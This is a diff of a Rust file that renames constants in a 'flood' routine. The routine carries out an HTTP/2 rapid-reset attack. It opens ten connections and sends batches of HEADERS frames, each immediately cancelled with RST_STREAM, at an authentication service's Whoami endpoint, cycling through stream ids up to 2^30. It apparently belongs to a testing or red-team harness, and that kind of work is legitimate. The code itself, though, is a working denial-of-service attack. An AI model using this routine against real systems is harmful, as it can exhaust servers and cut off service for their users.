@@ -9,29 +9,29 @@ use crate::wire::{Http2, frames};
 
 const CONNECTIONS: u32 = 10;
 /// The number of streams that are written at once, and the interval between two batches.
-const BATCH: u32 = 100;
-const EVERY: Duration = Duration::from_millis(100);
-const PAUSE: Duration = Duration::from_millis(100);
+const BATCH_SIZE: u32 = 100;
+const BATCH_INTERVAL: Duration = Duration::from_millis(100);
+const REPEAT_DELAY: Duration = Duration::from_millis(100);
 /// The largest stream id of a connection. The attack then opens another connection.
-const LAST: u32 = 1 << 30;
+const MAX_STREAM_ID: u32 = 1 << 30;
 
 pub async fn flood(attacker: Arc<Attacker>) {
     attacker
-        .repeat(CONNECTIONS, PAUSE, |attacker, _| async move {
+        .repeat(CONNECTIONS, REPEAT_DELAY, |attacker, _| async move {
             let Ok(connection) = Http2::open(&attacker, &attacker.entrances.iam).await else { return };
             let block = frames::call(&connection.authority, "/auth.v1.AuthService/Whoami");
             let mut begun = 0;
             connection
                 .drive(|| {
-                    let streams = (begun..begun + BATCH).map(|number| number * 2 + 1);
+                    let streams = (begun..begun + BATCH_SIZE).map(|number| number * 2 + 1);
                     let bytes: Vec<u8> = streams
                         .flat_map(|stream| [frames::headers(stream, &block, false), frames::reset(stream)].concat())
                         .collect();
-                    begun += BATCH;
-                    let goes_on = begun < LAST;
-                    attacker.has_sent(BATCH.into());
+                    begun += BATCH_SIZE;
+                    let goes_on = begun < MAX_STREAM_ID;
+                    attacker.has_sent(BATCH_SIZE.into());
                     async move {
-                        sleep(EVERY).await;
+                        sleep(BATCH_INTERVAL).await;
                         goes_on.then_some(bytes)
                     }
                 })
